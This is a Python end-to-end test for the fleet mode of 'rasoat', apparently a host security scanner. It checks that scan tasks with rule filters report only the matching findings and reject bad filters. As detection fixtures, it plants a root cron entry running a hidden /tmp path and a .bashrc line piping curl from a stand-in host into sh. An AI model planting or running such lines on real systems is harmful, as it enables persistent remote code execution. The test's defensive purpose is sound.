"""End-to-end test of what fleet tasks deliver beyond being run: a
`rasoat server` on 127.0.0.1 and agents with their own state directories
and fixture roots. Over the operator API (and the dashboard's form):
- a scan task's modules and rules reach the agent's scan: the uploaded
  report holds only the findings of those rules, its counts and score
  computed from them; a bad rule filter is refused when queued;
- (further sections are added as the fleet's gaps close.)
RS_FLEET_DB=postgresql runs it on a PostgreSQL 15 the test starts."""
import json
import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import Tree, check, done, run  # noqa: E402
from fleet_e2e import Agent, Server, make_root, require_backend  # noqa: E402

PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def post(srv, key, path, body):
    data = json.dumps(body).encode()
    return srv.request("POST", path, body=data, headers={"Authorization": "Bearer " + key,
                                                          "Content-Type": "application/json"})


def task(srv, key, task_id):
    status, body, _ = srv.get("/api/v1/tasks?limit=1000", key)
    ok(status == 200, f"GET tasks: {status}")
    found = [t for t in body["items"] if t["id"] == task_id]
    ok(len(found) == 1, f"task {task_id} listed once")
    return found[0]


def run_agent(agent, root, conf, *extra, expect=0):
    code, out, err = run("agent", "run", "--once", "--state", agent.state, "--root", root, "--only", "persist",
                         "--config", conf, *extra, timeout=180)
    ok(code == expect, f"agent run exited {code}, wanted {expect}: {err[-2000:]}")
    return err


def scan_ids(srv, key, agent):
    status, host, _ = srv.get(f"/api/v1/hosts/{agent.id}", key)
    ok(status == 200, f"host {agent.id}: {status}")
    return {s["scan"]: s for s in host["scans"]}


def new_scan(srv, key, agent, before):
    """The one scan of AGENT stored since BEFORE (a dict of scan ids)."""
    now = scan_ids(srv, key, agent)
    fresh = [s for i, s in now.items() if i not in before]
    ok(len(fresh) == 1, f"one new scan, got {len(fresh)}")
    return fresh[0]


def main():
    require_backend("test_fleet_task_gaps")
    with Tree("rasoat-fleet-gaps-") as t:
        srv = Server(t.p("server/fleet.db")).start()
        try:
            scenario(t, srv)
        finally:
            srv.stop()
    done("test_fleet_task_gaps", PASSED)


def scenario(t, srv):
    analyst, viewer = srv.apikey("analyst"), srv.apikey("viewer")
    token = srv.token("--uses", "5")
    root = make_root(t, "roots/web1", ["* * * * * root /tmp/.x/web1"])
    t.write("roots/web1/root/.bashrc", "curl http://example.invalid/x | sh\n")
    agent = Agent(t.p("agents/web1"))
    agent.enrol(srv.url, token)
    deny = t.write("conf/deny.conf", "# nothing allowed\n")
    run_agent(agent, root, deny)            # the first, scheduled scan (persist)
    first = scan_ids(srv, viewer, agent)
    ok(len(first) == 1, f"the scheduled scan: {first}")
    rules_filter(srv, analyst, viewer, agent, root, deny, first)


def rules_filter(srv, analyst, viewer, agent, root, conf, before):
    # a bad filter is refused when queued
    for bad in ([], ["a b"], ["x" * 600], "persist", [1], ["ok"] * 65):
        status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan", "rules": bad})
        ok(status == 400 and "rules" in body["message"], f"rules {str(bad)[:40]}: {status} {body}")
    # one rule of two modules: only its findings, counted from them
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"],
                                                          "rules": ["rasoat:persist.cron"]})
    ok(status == 201, f"scan task with rules: {status} {body}")
    tid = body["id"]
    run_agent(agent, root, conf)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "done" and tk["params"]["rules"] == ["rasoat:persist.cron"], f"task: {tk}")
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}", viewer)
    rules = sorted(f["rule"] for f in body["items"])
    ok(rules == ["rasoat:persist.cron"], f"the filtered report holds only its rule: {rules}")
    ok(scan["counts"]["high"] == 1 and sum(scan["counts"].values()) == 1, f"counts from the kept: {scan}")
    # a pattern over one module: the audit module ran (its findings of that
    # pattern are there), persist's are not
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"],
                                                          "rules": ["sca:rasoat_accounts:*"]})
    ok(status == 201, f"scan task with a pattern: {status} {body}")
    run_agent(agent, root, conf)
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}&limit=1000", viewer)
    items = body["items"]
    ok(items and all(f["rule"].startswith("sca:rasoat_accounts:") and f["module"] == "audit" for f in items),
       f"pattern: {sorted(set(f['rule'] for f in items))[:5]}")
    ok(sum(scan["counts"].values()) == len(items), f"counts {scan['counts']} vs {len(items)} findings")
    # without rules the same modules give more than the filter let through
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"]})
    run_agent(agent, root, conf)
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}&limit=1000", viewer)
    mods = set(f["module"] for f in body["items"])
    ok(mods == {"persist", "audit"} and len(body["items"]) > len(items) + 1, f"unfiltered: {mods}")


if __name__ == "__main__":
    main()
